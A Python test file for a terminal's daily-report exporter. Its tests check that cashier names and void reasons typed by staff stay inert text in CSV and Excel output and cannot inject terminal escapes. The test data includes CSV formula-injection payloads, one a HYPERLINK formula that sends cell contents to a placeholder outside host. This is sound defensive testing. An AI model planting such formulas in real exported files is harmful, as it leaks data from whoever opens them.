from __future__ import annotations

import csv
import io
import json
import subprocess
import sys

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from config.errors import LANGUAGES, Language
from drivers.card import EntryMode
from terminal.ledger.project import RedemptionState
from terminal.reports.daily import DailyReport, daily
from terminal.reports.exports import FORMULA_STARTS, as_dict, is_formula, printable, to_csv, to_json, to_text, to_xlsx
from terminal.reports.sheets import ENTRY_WORDS, REASON_WORDS, STATE_WORDS, Cell, Sheet, Yuan, entry_text, sheets
from tests.fakes.redemptions import redemption

DAY = "2012-12-25"
ATTACKS = [
    '=HYPERLINK("http://x.example/"&A1)',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "＝1＋1",
    "＋1",
    "－1",
    "＠x",
    " =1+1",
    "\t=1+1",
    "\r\n=1+1",
    "\ufeff=1+1",
]

typed_text = st.text(max_size=30) | st.sampled_from(ATTACKS)


def a_day(name: str = "张三", reason: str = "刷错卡") -> DailyReport:
    return daily(
        [
            redemption(1, pos_reference="012345678901"),
            redemption(2, cashier="c02", voided_units=1, reason=reason, list_fen=16_001, pay_fen=2_005),
            redemption(3, RedemptionState.VOIDED, offer="laundry", offer_name={"zh": "洗衣", "en": "Laundry"}),
            redemption(4, RedemptionState.CANCELLED, reason="timeout", settled_by="system"),
            redemption(5, RedemptionState.AUTHORISED, authorised_at="2012-12-25T11:00:00.000Z"),
        ],
        DAY,
        {"c01": name},
    )


def csv_blocks(content: bytes) -> list[list[list[str]]]:
    """The sections of the file: each its title row, heading row and rows."""
    blocks: list[list[list[str]]] = [[]]
    for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), strict=True):
        if row:
            blocks[-1].append(row)
        else:
            blocks.append([])
    return [block for block in blocks if block]


def as_csv_shows(cell: Cell) -> str:
    """A cell as it must stand in the file, worked out without the exporter."""
    if isinstance(cell, Yuan):
        return f"{cell.fen / 100:.2f}"
    if isinstance(cell, int):
        return str(cell)
    clean = "".join(character if character.isprintable() else " " for character in cell)
    return f"'{clean}" if clean.lstrip()[:1] in set("=+-@＝＋－＠") else clean


@pytest.mark.parametrize("language", LANGUAGES)
def test_csv_reads_back_as_the_sheets(language: Language) -> None:
    report = a_day()
    assert csv_blocks(to_csv(report, language)) == [
        [[sheet.title], list(sheet.headings), *([as_csv_shows(cell) for cell in row] for row in sheet.rows)]
        for sheet in sheets(report, language)
    ]


@settings(deadline=None)
@given(name=typed_text, reason=typed_text)
def test_csv_with_whatever_people_type_keeps_its_rows_and_holds_no_formula(name: str, reason: str) -> None:
    report = a_day(name, reason)
    blocks = csv_blocks(to_csv(report, "zh"))
    assert [len(block) - 2 for block in blocks] == [len(sheet.rows) for sheet in sheets(report, "zh")]
    for block in blocks:
        for row in block:
            for cell in row:
                assert cell.lstrip()[:1] not in set(FORMULA_STARTS)
    assert as_csv_shows(reason) in {row[12] for row in blocks[4][2:]}


def test_csv_opens_in_excel_in_china() -> None:
    content = to_csv(a_day(), "zh")
    assert content.startswith(b"\xef\xbb\xbf")
    assert b"\r\n" in content
    assert "张三".encode() in content


def read_back(content: bytes) -> list[Sheet]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    found: list[Sheet] = []
    for worksheet in book.worksheets:
        rows = [
            tuple(
                Yuan(round(float(str(cell.value)) * 100))
                if cell.number_format == "#,##0.00"
                else ("" if cell.value is None else cell.value)
                for cell in row
            )
            for row in worksheet.iter_rows()
        ]
        found.append(Sheet(worksheet.title, tuple(map(str, rows[0])), tuple(rows[1:])))
    book.close()
    return found


@pytest.mark.parametrize("language", LANGUAGES)
def test_xlsx_reads_back_as_the_sheets(language: Language) -> None:
    report = a_day()
    assert read_back(to_xlsx(report, language)) == list(sheets(report, language))


@pytest.mark.parametrize("attack", ATTACKS)
def test_typed_formula_is_text_in_excel_and_stays_text_when_edited(attack: str) -> None:
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx(a_day(attack, attack), "zh")))
    typed = [
        cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if is_formula(str(cell.value))
    ]
    assert len(typed) >= 3  # the cashier's name twice, the reason
    for cell in typed:
        assert cell.data_type == "s"
        assert cell.quotePrefix
        assert cell.value == printable(attack)
    book.close()


@settings(deadline=None, max_examples=30)
@given(name=typed_text, reason=typed_text)
def test_xlsx_takes_whatever_people_type(name: str, reason: str) -> None:
    found = read_back(to_xlsx(a_day(name, reason), "zh"))
    assert printable(reason) in {row[12] for row in found[4].rows}


def test_xlsx_holds_money_as_numbers_with_two_decimals() -> None:
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx(a_day(), "en")))
    paid = book["Redemptions"]["H3"]
    assert (float(str(paid.value)), paid.number_format, paid.data_type) == (20.05, "#,##0.00", "n")
    assert book["Redemptions"]["L2"].value == "012345678901"  # as text: a reference keeps its zeros
    book.close()


def test_json_holds_fen_and_what_was_typed() -> None:
    report = a_day("=1+1")
    told = json.loads(to_json(report))
    assert told == as_dict(report)
    assert told["total"] == {"sales": 2, "units": 3, "list": 24_001, "pay": 3_003, "fees": 0, "saving": 20_998}
    assert told["states"] == {"authorised": 1, "completed": 2, "cancelled": 1, "voided": 1}
    assert told["cashiers"][0]["name"] == "=1+1"
    assert len(told["hours"]) == 24
    assert told["redemptions"][0]["at"] == "2012-12-25T10:30:00.000+08:00"


@pytest.mark.parametrize(
    ("language", "words"),
    [
        (
            "zh",
            [
                "2012-12-25 当日报表",
                "会员价（元）",
                "看电影",
                "洗衣",
                "张三",
                "10:00-11:00",
                "作废",
                "待收款",
                "刷错卡",
            ],
        ),
        ("en", ["Daily report 2012-12-25", "Member price (yuan)", "Winter film", "Laundry", "10:00-11:00", "Unpaid"]),
    ],
)
def test_text_names_everything_a_manager_asks_for(language: Language, words: list[str]) -> None:
    text = to_text(a_day(), language)
    for word in words:
        assert word in text
    assert "30.03" in text
    assert "03:00-04:00" not in text  # an hour without sales


def test_text_of_a_day_without_sales_is_no_fault_and_has_no_lists() -> None:
    text = to_text(daily([], DAY), "zh")
    assert "0.00" in text
    assert "待收款 " not in text.splitlines()


def test_typed_brackets_and_escapes_do_not_play_with_the_terminal() -> None:
    text = to_text(a_day("[red]张三[/red]", "\x1b[2J\x07退"), "zh")
    assert "[red]张三[/red]" in text
    assert "\x1b" not in text
    assert "\x07" not in text


@pytest.mark.parametrize("language", LANGUAGES)
def test_reason_that_the_counter_writes_by_itself_is_put_into_words(language: Language) -> None:
    redemptions = sheets(a_day(), language)[4]
    assert redemptions.rows[3][12] == REASON_WORDS["timeout"].text(language)


@pytest.mark.parametrize("language", LANGUAGES)
def test_how_each_card_was_read_and_who_approved_a_typed_number_stand_in_every_export(language: Language) -> None:
    report = daily([redemption(entry_mode="manual", approved_by="m01")], "2012-12-25", {"m01": "王经理"})
    assert sheets(report, language)[4].rows[0][-2:] == (ENTRY_WORDS["manual"].text(language), "王经理")
    told = as_dict(report)["redemptions"][0]
    assert (told["entry_mode"], told["approved_by"]) == ("manual", "王经理")


@pytest.mark.parametrize("mode", list(EntryMode))
def test_every_way_of_reading_has_words(mode: EntryMode) -> None:
    assert ENTRY_WORDS[mode.value].zh
    assert entry_text("not known yet", "zh") == "not known yet"


def test_every_state_has_words_in_both_languages() -> None:
    assert set(STATE_WORDS) == set(RedemptionState)


@pytest.mark.parametrize(
    ("fen", "text"), [(0, "0.00"), (5, "0.05"), (1_000, "10.00"), (123_456, "1234.56"), (-5, "-0.05")]
)
def test_yuan_shows_two_decimals(fen: int, text: str) -> None:
    assert str(Yuan(fen)) == text


def test_importing_the_exports_loads_neither_excel_nor_rich() -> None:
    probe = (
        "import sys, terminal.reports.exports; "
        "print(sorted(name for name in ('openpyxl', 'rich') if name in sys.modules))"
    )
    ran = subprocess.run([sys.executable, "-c", probe], capture_output=True, text=True, check=True)
    assert ran.stdout.strip() == "[]"
